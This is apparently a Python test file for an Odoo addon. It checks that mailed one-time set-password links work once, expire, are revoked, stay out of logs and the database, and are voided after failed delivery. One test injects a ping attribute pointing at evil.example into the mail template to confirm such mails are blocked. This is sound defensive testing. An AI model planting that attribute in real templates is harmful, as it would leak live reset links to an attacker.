# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Link mode: the mails carry a one-time link to choose a password, no password."""

import html
import logging
import re
import time
from datetime import timedelta

import lxml.html
from freezegun import freeze_time

from odoo import fields
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .. import compat
from ..controllers.access_log import ACCESS_LOGGER
from .common import message_html, smtp_server
from .test_bulk_invite import BulkInviteMixin

LINK_IN_MAIL = re.compile(r'href="([^"]*/web/reset_password\?[^"]*)"')
NEW_PASSWORD = "Chosen-By-Jane-42"


def link_from(message):
    match = LINK_IN_MAIL.search(message_html(message))
    return match and html.unescape(match.group(1))


@tagged("post_install", "-at_install")
class TestLinkMode(BulkInviteMixin, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_website_login()
        cls.env["ir.config_parameter"].set_param(
            "partner_website_login.credential_mode", "link"
        )
        cls.leave_out_earlier_contacts()
        cls.jane = cls.make_contact()

    def send_random_password_mail(self, partner):
        action = partner.with_user(self.manager).action_random_password_mail()
        window = (
            self.env["random.password.mail"]
            .with_user(self.manager)
            .browse(action["res_id"])
        )
        self.assertRegex(window.placeholder, r"^https://set-password-\w{16}\.invalid$")
        self.assertIn(f'href="{window.placeholder}"', window.body)
        self.assertNotIn("[[temporary-password", window.body)
        with smtp_server(self.env) as smtp:
            window.action_send()
        [message] = smtp.messages
        return message

    def link_path(self, link):
        return "/web/" + link.split("/web/", 1)[1]

    def open_link(self, link):
        """The page the link opens: the set-password form, or a refusal."""
        self.url_open("/web/session/logout", allow_redirects=False)
        return self.url_open(self.link_path(link))

    def link_works(self, link):
        return 'name="confirm_password"' in self.open_link(link).text

    def choose_password(self, link, password):
        """Fill in the form the link opens, as a browser would."""
        page = lxml.html.fromstring(self.open_link(link).text)
        [form] = page.xpath("//form[hasclass('oe_reset_password_form')]")
        values = dict(form.form_values())
        values.update(password=password, confirm_password=password)
        return self.url_open(self.link_path(link), data=values, allow_redirects=False)

    def assert_password_chosen(self, response):
        """Where the link's form ends: 18.0 logs the contact in and sends it to
        /my; 19.0's auth_signup no longer logs in after a reset by token and says
        so on the page (the link is spent all the same)."""
        if compat.ODOO_MAJOR >= 19:
            self.assertEqual(response.status_code, 200)
            self.assertIn("Your password has been reset successfully.", response.text)
        else:
            self.assertEqual(response.status_code, 303)
            self.assertTrue(response.headers["Location"].endswith("/my"))

    def test_the_mail_carries_a_link_that_works_once_and_no_password(self):
        message = self.send_random_password_mail(self.jane)
        body = message_html(message)
        self.assertNotIn("Temporary password", body)
        self.assertIn("jane.doe", body)  # the login to use afterwards
        link = link_from(message)
        self.assertTrue(link)
        self.assertEqual(self.jane.website_access_state, "invited")
        token = re.search(r"token=([^&]+)", link).group(1)
        self.env.flush_all()
        self.env.cr.execute(
            """SELECT (SELECT count(*) FROM mail_mail WHERE body_html LIKE %(t)s)
                    + (SELECT count(*) FROM mail_message WHERE body LIKE %(t)s)""",
            {"t": f"%{token}%"},
        )
        self.assertFalse(self.env.cr.fetchone()[0], "the link stays in the database")
        note = self.env["mail.message"].search(
            [("model", "=", "res.partner"), ("res_id", "=", self.jane.id)], limit=1
        )
        self.assertIn("Set-password link sent to jane.doe@retailer.test", note.body)

        self.assert_password_chosen(self.choose_password(link, NEW_PASSWORD))
        self.assertEqual(self.jane.website_access_state, "active")
        self.assertTrue(self.authenticates("jane.doe", NEW_PASSWORD))
        self.assertTrue(self.authenticates("jane.doe@retailer.test", NEW_PASSWORD))
        # logged in: the portal opens, no detour to /my/security
        self.authenticate("jane.doe", NEW_PASSWORD)
        self.assertEqual(self.url_open("/my", allow_redirects=False).status_code, 200)
        self.assertFalse(self.link_works(link), "the link works a second time")

    def test_opening_a_link_leaves_no_token_in_the_access_log(self):
        link = link_from(self.send_random_password_mail(self.jane))
        token = re.search(r"token=([^&]+)", link).group(1)
        signup_token = "odoo-signup-token-0123456789"
        with self.assertLogs(ACCESS_LOGGER, logging.INFO) as logs:
            # a mail scanner's GET, or the contact opening the page and leaving
            self.assertTrue(self.link_works(link))
            # Odoo's own sign-up links take their token on the same terms
            self.url_open(f"/web/signup?token={signup_token}&redirect=%2Fmy")
        access_log = "\n".join(logs.output)
        self.assertIn("/web/reset_password?", access_log)
        self.assertIn("token=***", access_log)
        self.assertIn("/web/signup?token=***&redirect=", access_log)
        self.assertNotIn(token, access_log)
        self.assertNotIn(signup_token, access_log)
        # the GET did not use the link up
        self.assert_password_chosen(self.choose_password(link, NEW_PASSWORD))

    def test_a_link_that_pings_elsewhere_is_not_sent(self):
        """A template editor's ``ping`` would have browsers report the click, and
        the live link, to another address."""
        ben = self.make_contact(name="Ben", username="ben")
        # a manager who also edits mail templates (administrators are both)
        editors = self.env.ref("mail.group_mail_template_editor")
        self.manager[compat.GROUPS_FIELD] += editors
        template = self.env.ref("partner_website_login.mail_template_random_password")
        as_manager = template.with_user(self.manager)
        original = str(as_manager.body_html)
        link = "<a t-att-href=\"ctx.get('website_set_password_url')\""
        pinging = original.replace(link, f'{link} ping="https://evil.example/p"')
        self.assertNotEqual(pinging, original)
        as_manager.body_html = pinging
        self.assertIn('ping="https://evil.example/p"', template.body_html)

        def send_to_both():
            action = (self.jane | ben).with_user(self.manager)
            window = (
                self.env["random.password.mail"]
                .with_user(self.manager)
                .browse(action.action_random_password_mail()["res_id"])
            )
            with smtp_server(self.env) as smtp:
                notification = window.action_send()
            return smtp.messages, notification["params"]["message"]

        messages, said = send_to_both()
        self.assertEqual(messages, [])
        self.assertIn("0 set-password links sent", said)
        self.assertIn("no other attribute than style, class, title", said)
        self.assertIn("Ben", said)
        self.assertFalse(
            self.env["partner.login.credential"]
            .sudo()
            .search([("user_id.partner_id", "in", (self.jane | ben).ids)])
        )
        self.assertNotEqual(self.jane.website_access_state, "invited")
        # the editor's mistake undone: both get their link
        as_manager.body_html = original
        messages, said = send_to_both()
        self.assertEqual(len(messages), 2)
        self.assertIn("2 set-password links sent", said)
        self.assertTrue(self.link_works(link_from(messages[0])))

    def test_a_newer_link_or_revoking_access_ends_a_link(self):
        first = self.send_random_password_mail(self.jane)
        # Odoo's signed tokens have a resolution of one second: within the same
        # second the newer link is the very same string
        with freeze_time(fields.Datetime.now() + timedelta(seconds=2)):
            second = self.send_random_password_mail(self.jane)
        self.assertFalse(self.link_works(link_from(first)))
        self.assertTrue(self.link_works(link_from(second)))
        self.jane.with_user(self.manager).action_revoke_website_access()
        self.assertFalse(self.link_works(link_from(second)))
        self.assertEqual(self.jane.website_access_state, "none")

    def test_a_link_stops_with_allow_login_off(self):
        link = link_from(self.send_random_password_mail(self.jane))
        self.jane.with_user(self.manager).allow_login = False
        self.assertFalse(self.link_works(link))

    def test_an_expired_link_is_refused_and_shows_invite_expired(self):
        link = link_from(self.send_random_password_mail(self.jane))
        expiry = self.jane.website_password_expires
        with freeze_time(expiry + timedelta(minutes=1)):
            self.env["partner.login.credential"]._cron_expire()
            self.assertFalse(self.link_works(link))
        self.assertEqual(self.jane.website_access_state, "expired")

    def test_odoos_own_reset_password_still_works_beside_links(self):
        """A contact who asks Odoo for a reset gets Odoo's link, which replaces
        the addon's one."""
        link = link_from(self.send_random_password_mail(self.jane))
        self.jane.website_user_id.action_reset_password()
        odoo_link = self.jane._get_signup_url()
        self.assertFalse(self.link_works(link))
        self.assertTrue(self.link_works(odoo_link))

    def test_bulk_invite_sends_links_and_records_the_mode(self):
        ben = self.make_contact(name="Ben", username="ben")
        with smtp_server(self.env) as smtp:
            run = self.run_invite()
        self.assertEqual(run.credential_mode, "link")
        self.assertEqual(run.invited_count, 2)
        self.assertEqual(len(smtp.messages), 2)
        message = next(m for m in smtp.messages if "ben@" in m["To"])
        self.assertNotIn("Temporary password", message_html(message))
        self.assertEqual(ben.website_access_state, "invited")
        self.assertIsNone(self.run_invite())  # never twice: nobody to invite
        self.assert_password_chosen(
            self.choose_password(link_from(message), NEW_PASSWORD)
        )
        self.assertEqual(ben.website_access_state, "active")
        self.assertTrue(self.authenticates("ben", NEW_PASSWORD))

    @mute_logger(
        "odoo.addons.partner_website_login.models.partner_login_mailer",
        "odoo.addons.base.models.ir_mail_server",
    )
    def test_a_failed_delivery_ends_the_link(self):
        with smtp_server(self.env, hang_up_after=0) as smtp:
            self.env["res.partner"]._cron_send_bulk_website_invite()
            run = self.env["partner.invite.run"].search([], limit=1)
            self.work_off(run)
            # the server may have kept the mail it hung up on: its link must not work
            [cut_off] = smtp.cut_off
            self.assertFalse(self.link_works(link_from(cut_off)))
            self.assertEqual(self.jane.website_access_state, "none")
            self.assertEqual(self.jane.sudo().signup_type, False)
            # tried again a minute later (Odoo's signed tokens have a resolution of
            # a second: two links issued within one are the same link)
            time.sleep(1.1)
            self.work_off(run, time_passes=True)
        [message] = smtp.messages
        self.assertFalse(self.link_works(link_from(cut_off)))
        self.assertTrue(self.link_works(link_from(message)))
        self.assertEqual(self.jane.website_access_state, "invited")
